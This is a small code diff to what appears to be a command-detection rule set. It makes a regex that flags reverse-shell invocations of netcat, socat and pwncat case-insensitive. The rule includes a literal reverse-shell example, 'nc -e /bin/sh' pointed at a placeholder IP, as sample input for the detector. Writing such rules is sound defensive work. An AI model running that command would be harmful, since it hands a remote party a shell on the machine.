@@ -160,7 +160,7 @@ RULES: Final = (
         "Gives somebody elsewhere a shell here.",
         "nc -e /bin/sh 203.0.113.9 4444",
         "nc -z localhost 80",
-        pattern=r"^(nc\S*|ncat|netcat|busybox nc) (.* )?(-\w*[ec] ?|--(sh-)?exec[ =])\S*|^socat .*(exec|system|shell):|^(rcat|pwncat) .*(sh\b|powershell|cmd)|\b(nc|ncat|netcat) .*(/bin/\w*sh|cmd\.exe|powershell)",
+        pattern=r"^(nc\S*|ncat|netcat|busybox nc) (.* )?(-\w*[ec] ?|--(sh-)?exec[ =])\S*|^socat .*(?i:exec|system|shell):|^(rcat|pwncat) .*(sh\b|powershell|cmd)|\b(nc|ncat|netcat) .*(/bin/\w*sh|cmd\.exe|powershell)",
     ),
     Rule(
         "command.listens",
